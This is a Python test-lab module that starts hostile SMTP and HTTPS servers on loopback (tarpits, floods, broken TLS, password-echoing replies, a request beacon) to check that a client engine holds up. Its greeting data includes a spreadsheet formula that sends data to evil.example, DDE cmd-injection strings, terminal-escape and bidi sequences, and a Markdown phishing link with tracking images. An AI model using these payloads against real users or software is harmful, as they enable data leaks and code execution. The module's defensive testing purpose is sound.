"""Hostile servers on loopback: tarpits, floods, protocol breakers and echoes, to prove the engine holds up."""

from __future__ import annotations

import base64
import binascii
import contextlib
import random
import socket
import ssl
import struct
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from enum import StrEnum
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType

from lab.pki import LabPKI
from lab.smtp import Personality, Scenario, start_smtp

__all__ = ["HOSTILE_REPLY", "SSH_BANNER", "HostileHttpsKind", "HostileKind", "RunningBeacon", "RunningHostile",
           "RunningHostileHttps", "markdown_banner", "start_beacon",
           "start_hostile", "start_hostile_https"]

SERVER_NAME = "hostile.lab.test"
ACCEPT_POLL_SECONDS = 0.1  # how often the accept loop and blocked sends look at the stop flag
STOP_TIMEOUT = 5.0  # seconds stop() waits for the server's threads
CLIENT_IDLE_SECONDS = 60.0  # a connection is dropped after this long without a command
MAX_COMMAND_BYTES = 16 * 1024  # a command line longer than this ends the connection
ENDLESS_LINE_BYTES = 8 * 1024 * 1024  # the never-ending line stops (unsent) after this many bytes
EHLO_FLOOD_LINES = 5000
DRIP_INTERVAL_SECONDS = 1.0
SSH_BANNER = b"SSH-2.0-OpenSSH_9.6\r\n"
REFUSAL_421 = b"421 4.3.2 Service not available, closing transmission channel\r\n"
STARTTLS_REFUSAL = b"454 4.7.0 TLS not available\r\n"
# A greeting meant to hurt whoever displays it: terminal escapes, bell/backspace/DEL, C1 CSI, bidi override,
# and cells a spreadsheet would run (formula injection).
HOSTILE_REPLY = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for help")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "\x1b[2J\x1b[1;31mALERT\x1b[0m \x1b]0;pwned\x07 bell\x07 back\x08\x08 del\x7f c1\x9b31m nul\x00 tab\there",
    "\u202eesrever\u202c \r stray CR",
    f"{SERVER_NAME} ESMTP",
)


class HostileKind(StrEnum):
    SILENT = "silent"  # accepts, never says a word (lab.smtp Scenario.SILENT)
    DRIP = "drip"  # the greeting, one byte a second
    ENDLESS_LINE = "endless-line"  # megabytes of one line that never ends
    HTTP = "http"  # a web server (lab.smtp Scenario.NOT_SMTP)
    SSH = "ssh"  # an SSH server's banner, then waits
    TLS_GARBAGE = "tls-garbage"  # 220 to STARTTLS, then random bytes instead of a TLS handshake
    STARTTLS_RESET = "starttls-reset"  # 220 to STARTTLS, then a TCP reset in the middle of the handshake
    STARTTLS_REFUSED = "starttls-refused"  # STARTTLS advertised, then 454 4.7.0 TLS not available
    REFUSED_421 = "refused-421"  # 421 4.3.2 at connect, then hangs up
    EHLO_FLOOD = "ehlo-flood"  # an EHLO reply of thousands of lines
    CONTROL_CHARACTERS = "control-characters"  # a greeting of escapes, control characters and formulas
    AUTH_ECHO = "auth-echo"  # echoes the AUTH payload (and the password it decodes) in its 535 reply
    AUTH_ECHO_TRANSFORMED = "auth-echo-transformed"  # echoes the password reversed, hex, split, re-encoded
    AUTH_SILENT = "auth-silent"  # TLS and EHLO fine, then no answer to AUTH (an auth penalty, e.g. Dovecot's)
    MARKDOWN_BANNER = "markdown-banner"  # a greeting with a Markdown link and image pointing at a beacon
    AUTH_CHALLENGE_LOOP = "auth-challenge-loop"  # answers every AUTH line with another 334 of garbage
    TLS_STALL = "tls-stall"  # implicit TLS that starts a handshake record and never finishes it


RAW_DELEGATES = {HostileKind.SILENT: Scenario.SILENT, HostileKind.HTTP: Scenario.NOT_SMTP}
IMPLICIT_TLS_KINDS = frozenset({HostileKind.TLS_STALL})


@dataclass(frozen=True)
class RunningHostile:
    """A hostile server that is listening; `stop()` closes the listener, every connection and its threads."""

    kind: HostileKind
    host: str
    port: int
    ca_file: Path
    implicit_tls: bool = False
    personality: Personality = Personality.GENERIC  # what lab_settings() needs to build settings for it
    _stop: Callable[[], None] = field(default=lambda: None, repr=False, compare=False)

    def stop(self) -> None:
        """Free the port, close every connection and end the server's threads (idempotent)."""
        self._stop()

    def __enter__(self) -> RunningHostile:
        return self

    def __exit__(self, exc_type: type[BaseException] | None, exc: BaseException | None,
                 tb: TracebackType | None) -> None:
        self.stop()


class _Stopped(Exception):
    """The server is stopping or the client left: unwind the connection's thread."""


class _Conn:
    """One client connection seen from the server: sends and line reads that give up when the server stops."""

    def __init__(self, sock: socket.socket, stopping: threading.Event) -> None:
        self.sock: socket.socket = sock
        self.stopping = stopping
        self.buffer = b""
        sock.settimeout(ACCEPT_POLL_SECONDS)

    def send(self, data: bytes) -> None:
        view = memoryview(data)
        while view:
            if self.stopping.is_set():
                raise _Stopped
            try:
                sent = self.sock.send(view)
            except TimeoutError:
                continue
            except OSError:
                raise _Stopped from None
            view = view[sent:]

    def recv(self) -> bytes:
        waited = 0.0
        while not self.stopping.is_set():
            try:
                data = self.sock.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                waited += ACCEPT_POLL_SECONDS
                if waited > CLIENT_IDLE_SECONDS:
                    raise _Stopped from None
                continue
            except OSError:
                raise _Stopped from None
            if not data:
                raise _Stopped
            return data
        raise _Stopped

    def line(self) -> bytes:
        while b"\n" not in self.buffer:
            if len(self.buffer) > MAX_COMMAND_BYTES:
                raise _Stopped
            self.buffer += self.recv()
        line, _, self.buffer = self.buffer.partition(b"\n")
        return line.rstrip(b"\r")

    def sleep(self, seconds: float) -> None:
        if self.stopping.wait(seconds):
            raise _Stopped

    def drain(self) -> None:
        """Read and discard until the client leaves or the server stops."""
        while True:
            self.recv()

    def reset(self) -> None:
        """Abort with a TCP RST (SO_LINGER on, zero seconds) instead of an orderly FIN."""
        with contextlib.suppress(OSError):
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.sock.close()
        raise _Stopped

    def start_tls(self, context: ssl.SSLContext) -> None:
        raw = self.sock
        raw.settimeout(5.0)
        self.sock = context.wrap_socket(raw, server_side=True)
        self.sock.settimeout(ACCEPT_POLL_SECONDS)
        self.buffer = b""


Handler = Callable[[_Conn], None]


class _ThreadedServer:
    """A TCP listener on `host` whose accept loop and connections each run in a daemon thread."""

    def __init__(self, handler: Handler, host: str) -> None:
        self._handler = handler
        self._stopping = threading.Event()
        self._listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._listener.bind((host, 0))
        self._listener.listen(16)
        self._listener.settimeout(ACCEPT_POLL_SECONDS)
        self.port = self._listener.getsockname()[1]
        self._lock = threading.Lock()
        self._conns: list[_Conn] = []
        self._threads: list[threading.Thread] = []
        self._acceptor = threading.Thread(target=self._accept_loop, name=f"hostile-{self.port}", daemon=True)
        self._acceptor.start()

    def _accept_loop(self) -> None:
        while not self._stopping.is_set():
            try:
                sock, _ = self._listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            conn = _Conn(sock, self._stopping)
            thread = threading.Thread(target=self._serve, args=(conn,), name=f"hostile-{self.port}-conn",
                                      daemon=True)
            with self._lock:
                self._conns.append(conn)
                self._threads.append(thread)
            thread.start()

    def _serve(self, conn: _Conn) -> None:
        try:
            self._handler(conn)
        except (_Stopped, OSError, ssl.SSLError):
            pass  # the client left, the handshake failed, or the server is stopping
        finally:
            with contextlib.suppress(OSError):
                conn.sock.close()

    def stop(self) -> None:
        if self._stopping.is_set():
            return
        self._stopping.set()
        self._acceptor.join(STOP_TIMEOUT)
        self._listener.close()
        with self._lock:
            conns, threads = list(self._conns), list(self._threads)
        for conn in conns:
            with contextlib.suppress(OSError):
                conn.sock.close()
        for thread in threads:
            thread.join(STOP_TIMEOUT)


# ------------------------------------------------------------------------------------------ behaviours


def _greet(conn: _Conn) -> None:
    conn.send(f"220 {SERVER_NAME} ESMTP hostile lab\r\n".encode())


def _ehlo_reply(secure: bool, *, starttls: bool = True) -> bytes:
    lines = [SERVER_NAME, "8BITMIME"]
    if starttls and not secure:
        lines.append("STARTTLS")
    if secure:
        lines.append("AUTH PLAIN LOGIN")
    return "".join(f"250{'-' if i < len(lines) - 1 else ' '}{line}\r\n" for i, line in enumerate(lines)).encode()


def _dialogue(conn: _Conn, *, on_starttls: Callable[[_Conn], bool] | None = None,
              on_auth: Callable[[_Conn, bytes], None] | None = None, starttls: bool = True) -> None:
    """A minimal SMTP server: EHLO, STARTTLS (via `on_starttls`; True when TLS is up), AUTH (via `on_auth`)."""
    secure = False
    while True:
        line = conn.line()
        verb = line.split(b" ", 1)[0].upper()
        if verb in (b"EHLO", b"HELO"):
            conn.send(_ehlo_reply(secure, starttls=starttls and on_starttls is not None))
        elif verb == b"STARTTLS" and on_starttls is not None and not secure:
            secure = on_starttls(conn)
        elif verb == b"AUTH" and on_auth is not None:
            on_auth(conn, line)
        elif verb == b"QUIT":
            conn.send(b"221 2.0.0 Bye\r\n")
            return
        else:
            conn.send(b"250 2.0.0 OK\r\n")


def _drip(conn: _Conn) -> None:
    for byte in f"220 {SERVER_NAME} ESMTP tarpit, one byte at a time\r\n".encode():
        conn.send(bytes([byte]))
        conn.sleep(DRIP_INTERVAL_SECONDS)
    conn.drain()


def _endless_line(conn: _Conn) -> None:
    chunk = b"220 " + b"A" * (64 * 1024 - 4)
    conn.send(chunk)
    chunk = b"A" * len(chunk)
    for _ in range(ENDLESS_LINE_BYTES // len(chunk)):
        conn.send(chunk)
    conn.drain()


def _ssh(conn: _Conn) -> None:
    conn.send(SSH_BANNER)
    conn.drain()


def _tls_garbage(conn: _Conn) -> None:
    def garbage(c: _Conn) -> bool:
        c.send(b"220 2.0.0 Ready to start TLS\r\n")
        c.sleep(0.2)  # let the client start its handshake; the garbage then answers its ClientHello
        noise = random.Random(1).randbytes(4096)
        c.send(b"\x00\xff" + noise)  # never a TLS record type: 0x00 is not a content type
        c.drain()
        return False

    _greet(conn)
    _dialogue(conn, on_starttls=garbage)


def _starttls_reset(conn: _Conn) -> None:
    def reset(c: _Conn) -> bool:
        c.send(b"220 2.0.0 Ready to start TLS\r\n")
        c.recv()  # the ClientHello has arrived: the client is in the middle of the handshake
        c.reset()
        return False

    _greet(conn)
    _dialogue(conn, on_starttls=reset)


def _starttls_refused(conn: _Conn) -> None:
    def refuse(c: _Conn) -> bool:
        c.send(STARTTLS_REFUSAL)
        return False

    _greet(conn)
    _dialogue(conn, on_starttls=refuse)


def _refused_421(conn: _Conn) -> None:
    conn.send(REFUSAL_421)


def _ehlo_flood(conn: _Conn) -> None:
    _greet(conn)
    conn.line()
    flood = b"".join(f"250-X-HOSTILE-FEATURE-{i:05d}\r\n".encode() for i in range(EHLO_FLOOD_LINES))
    conn.send(b"250-" + SERVER_NAME.encode() + b"\r\n" + flood + b"250 END\r\n")
    conn.drain()


DEFAULT_BEACON = "http://127.0.0.1:9"


def markdown_banner(beacon: str) -> str:
    """Outside text that beacons if a renderer takes it for Markdown or HTML: a link, an image, a tag, a URL."""
    return (f"[Sign in again]({beacon}/phish) ![p]({beacon}/beacon.png) <img src=\"{beacon}/tag.png\"> "
            f"{beacon}/bare www.evil.example")


def _markdown_banner(beacon: str) -> Handler:
    def handle(conn: _Conn) -> None:
        conn.send(f"220 {markdown_banner(beacon)}\r\n".encode())
        _dialogue(conn)  # no STARTTLS offered: the run fails at tls after displaying the greeting

    return handle


def _control_characters(conn: _Conn) -> None:
    lines = HOSTILE_REPLY
    text = "".join(f"220{'-' if i < len(lines) - 1 else ' '}{line}\r\n" for i, line in enumerate(lines))
    conn.send(text.encode("utf-8"))
    _dialogue(conn)  # no STARTTLS offered: the run fails at tls after displaying the greeting


def _auth_server(context: ssl.SSLContext, on_auth: Callable[[_Conn, bytes], None]) -> Handler:
    """A server that greets, upgrades with STARTTLS, answers EHLO with AUTH, and hands AUTH to `on_auth`."""

    def upgrade(c: _Conn) -> bool:
        c.send(b"220 2.0.0 Ready to start TLS\r\n")
        c.start_tls(context)
        return True

    def handle(conn: _Conn) -> None:
        _greet(conn)
        _dialogue(conn, on_starttls=upgrade, on_auth=on_auth)

    return handle


def _auth_payload(c: _Conn, line: bytes) -> bytes:
    """The AUTH command's initial response, or the line that answers an empty 334 challenge."""
    words = line.split(b" ")
    payload = words[2] if len(words) > 2 else b""
    while not payload:  # no initial response: ask until one comes
        c.send(b"334 \r\n")
        payload = c.line()
    return payload


def _echo(c: _Conn, line: bytes) -> None:
    payload = _auth_payload(c, line)
    try:
        decoded = base64.b64decode(payload, validate=True)
    except binascii.Error:
        decoded = b""
    secret = decoded.split(b"\x00")[-1]
    # The password straddles the 300-character cut of a transcript line, then comes whole, and the payload.
    padding = b"x" * (300 - len(b"535-5.7.8 Echo: ") - len(secret) // 2)
    c.send(b"535-5.7.8 Echo: " + padding + secret + b"\r\n"
           b"535-5.7.8 You sent " + payload + b"\r\n"
           b"535 5.7.8 Authentication failed for " + decoded.replace(b"\x00", b" ") + b"\r\n")


def transformed_echoes(payload: bytes) -> list[bytes]:
    """What a server can make of an AUTH PLAIN payload: the password reversed, in hex, split in two, and the
    payload re-encoded at each byte offset inside a longer base64 text."""
    decoded = base64.b64decode(payload)
    secret = decoded.split(b"\x00")[-1]
    half = len(secret) // 2
    return [secret[::-1], secret.hex().encode(), secret.hex().upper().encode(), secret[:half] + b" / " + secret[half:],
            *(base64.b64encode(b"#" * offset + decoded + b"#") for offset in (1, 2, 3)),
            base64.urlsafe_b64encode(b"pad" + secret)]


def _echo_transformed(c: _Conn, line: bytes) -> None:
    echoes = transformed_echoes(_auth_payload(c, line))
    c.send(b"".join(b"535-5.7.8 You sent " + e + b"\r\n" for e in echoes) + b"535 5.7.8 Authentication failed\r\n")


def _challenge_loop(c: _Conn, line: bytes) -> None:
    while True:
        c.send(b"334 %%%not-base64%%%\r\n")
        c.line()


def _tls_stall(conn: _Conn) -> None:
    conn.recv()  # the ClientHello
    conn.send(b"\x16\x03\x03\x40\x00")  # a handshake record of 16384 bytes is coming...
    noise = random.Random(2).randbytes(16384)
    for byte in noise:  # ...one byte a second, well inside any per-read timeout
        conn.send(bytes([byte]))
        conn.sleep(DRIP_INTERVAL_SECONDS)
    conn.drain()


def start_hostile(kind: HostileKind | str, *, pki: LabPKI, host: str = "127.0.0.1",
                  beacon: str = DEFAULT_BEACON) -> RunningHostile:
    """Start a hostile server of `kind` on a free port of `host` and return it, listening (`beacon`: the URL the
    markdown-banner server points its link and image at)."""
    kind = HostileKind(kind)
    if kind in RAW_DELEGATES:
        server = start_smtp(RAW_DELEGATES[kind], pki=pki, personality=Personality.GENERIC, host=host)
        return RunningHostile(kind, host, server.port, pki.ca_file, _stop=server.stop)
    context = pki.server_context()
    handlers: dict[HostileKind, Handler] = {
        HostileKind.DRIP: _drip,
        HostileKind.ENDLESS_LINE: _endless_line,
        HostileKind.SSH: _ssh,
        HostileKind.TLS_GARBAGE: _tls_garbage,
        HostileKind.STARTTLS_RESET: _starttls_reset,
        HostileKind.STARTTLS_REFUSED: _starttls_refused,
        HostileKind.REFUSED_421: _refused_421,
        HostileKind.EHLO_FLOOD: _ehlo_flood,
        HostileKind.CONTROL_CHARACTERS: _control_characters,
        HostileKind.AUTH_ECHO: _auth_server(context, _echo),
        HostileKind.AUTH_ECHO_TRANSFORMED: _auth_server(context, _echo_transformed),
        HostileKind.AUTH_SILENT: _auth_server(context, lambda c, line: c.drain()),
        HostileKind.AUTH_CHALLENGE_LOOP: _auth_server(context, _challenge_loop),
        HostileKind.TLS_STALL: _tls_stall,
        HostileKind.MARKDOWN_BANNER: _markdown_banner(beacon),
    }
    threaded = _ThreadedServer(handlers[kind], host)
    return RunningHostile(kind, host, threaded.port, pki.ca_file, implicit_tls=kind in IMPLICIT_TLS_KINDS,
                          _stop=threaded.stop)


# ------------------------------------------------------------------------------------------ hostile HTTPS


class HostileHttpsKind(StrEnum):
    DRIP = "https-drip"  # headers at once, then a JSON body one byte every DRIP_HTTP_SECONDS
    HUGE = "https-huge"  # a 400 MB body, as fast as the client reads it


DRIP_HTTP_SECONDS = 0.2
HUGE_BODY_BYTES = 400 * 1024 * 1024


@dataclass(frozen=True)
class RunningHostileHttps:
    """A hostile HTTPS server on loopback (any path, any method); `base_url` for login_url / graph_url."""

    kind: HostileHttpsKind
    base_url: str
    ca_file: Path
    _stop: Callable[[], None] = field(default=lambda: None, repr=False, compare=False)

    def stop(self) -> None:
        self._stop()

    def __enter__(self) -> RunningHostileHttps:
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()


def _https_handler(kind: HostileHttpsKind, stopping: threading.Event) -> type:
    class Handler(BaseHTTPRequestHandler):
        timeout = CLIENT_IDLE_SECONDS

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - silent
            return

        def answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            if length:
                self.rfile.read(min(length, MAX_COMMAND_BYTES))
            size = HUGE_BODY_BYTES if kind is HostileHttpsKind.HUGE else 100_000
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(size))
            self.end_headers()
            chunk, step = (b" " * 65536, 0.0) if kind is HostileHttpsKind.HUGE else (b" ", DRIP_HTTP_SECONDS)
            sent = 0
            while sent < size and not stopping.is_set():
                self.wfile.write(chunk[: size - sent])
                self.wfile.flush()
                sent += len(chunk)
                if step and stopping.wait(step):
                    return

        do_GET = do_POST = answer

    return Handler


def start_hostile_https(kind: HostileHttpsKind | str, *, pki: LabPKI, tls: bool = True) -> RunningHostileHttps:
    """Start a hostile HTTPS server of `kind` on a free port of 127.0.0.1 (certificate from the lab CA; plain
    HTTP with tls=False, e.g. for a webhook)."""
    kind = HostileHttpsKind(kind)
    stopping = threading.Event()
    server = ThreadingHTTPServer(("127.0.0.1", 0), _https_handler(kind, stopping))
    server.daemon_threads = True
    server.handle_error = lambda request, client_address: None  # a client that hangs up is what we expect
    if tls:
        server.socket = pki.server_context().wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": ACCEPT_POLL_SECONDS},
                              name=f"hostile-https-{server.server_address[1]}", daemon=True)
    thread.start()

    def stop() -> None:
        if stopping.is_set():
            return
        stopping.set()
        server.shutdown()
        server.server_close()
        thread.join(STOP_TIMEOUT)

    scheme = "https" if tls else "http"
    return RunningHostileHttps(kind, f"{scheme}://127.0.0.1:{server.server_address[1]}", pki.ca_file, _stop=stop)


@dataclass(frozen=True)
class RunningBeacon:
    """A web server that only records what is asked of it: any request means outside text went live."""

    url: str
    requests: list[str]
    _stop: Callable[[], None] = field(default=lambda: None, repr=False, compare=False)

    def stop(self) -> None:
        self._stop()


def start_beacon() -> RunningBeacon:
    """A beacon on a free port of 127.0.0.1; every request's path lands in `requests`."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - silent
            return

        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            seen.append(self.path)
            self.send_response(204)
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": ACCEPT_POLL_SECONDS},
                              name="beacon", daemon=True)
    thread.start()

    def stop() -> None:
        server.shutdown()
        server.server_close()
        thread.join(STOP_TIMEOUT)

    return RunningBeacon(f"http://127.0.0.1:{server.server_address[1]}", seen, _stop=stop)
